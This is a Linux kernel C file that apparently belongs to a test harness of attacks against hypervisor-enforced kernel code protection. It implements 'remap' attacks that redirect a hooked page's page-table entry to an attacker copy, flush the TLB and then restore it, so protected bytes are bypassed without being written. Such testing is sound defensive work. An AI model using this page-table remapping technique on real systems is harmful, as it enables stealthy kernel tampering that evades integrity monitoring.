// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * Page tables of the guest's that lead from hooks to pages of the attacker's: not a byte of what the host
 * protects is written.
 */

#include <linux/gfp.h>
#include <linux/io.h>
#include <linux/mm.h>

#include "attack.h"

u64 *remap_entry(const void *va)
{
	unsigned int level;
	pte_t *pte = lookup_address((unsigned long)va, &level);

	return pte && level == PG_LEVEL_4K ? (u64 *)&pte->pte : NULL;
}

u64 remap_to(u64 entry, const void *page)
{
	return (entry & ~PTE_PFN_MASK) | virt_to_phys((void *)page);
}

/* Global entries outlive MOV CR3, but not this. */
void remap_flush(const void *va)
{
	asm volatile("invlpg (%0)" : : "r"(va) : "memory");
}

static enum outcome remap(enum place place)
{
	u8 *copy = (u8 *)__get_free_page(GFP_KERNEL);
	enum outcome outcome = ATTACK_IMPOSSIBLE;
	struct patch patch;
	struct ping ping;
	u64 *entry, original;
	u8 *page;

	if (!copy || ping_find(&ping))
		goto free;
	ping_silent(&ping, place, &patch);
	page = patch_page(&patch);
	entry = remap_entry(page);
	if (!entry)
		goto free;
	patch_copy(&patch, copy);

	original = *entry;
	WRITE_ONCE(*entry, remap_to(original, copy));
	remap_flush(page);
	attack_note("%u calls", ping_hold(&ping));
	WRITE_ONCE(*entry, original);
	remap_flush(page);
	outcome = ATTACK_SUCCEEDED;
free:
	free_page((unsigned long)copy);
	return outcome;
}

static enum outcome remap_call_site(void)
{
	return remap(AT_CALL_SITE);
}

static enum outcome remap_stub(void)
{
	return remap(AT_STUB);
}

static enum outcome remap_gate(void)
{
	return remap(AT_GATE);
}

const struct attack remap_attacks[] = {{"remap-call-site", remap_call_site},
				       {"remap-stub", remap_stub},
				       {"remap-gate", remap_gate},
				       {}};
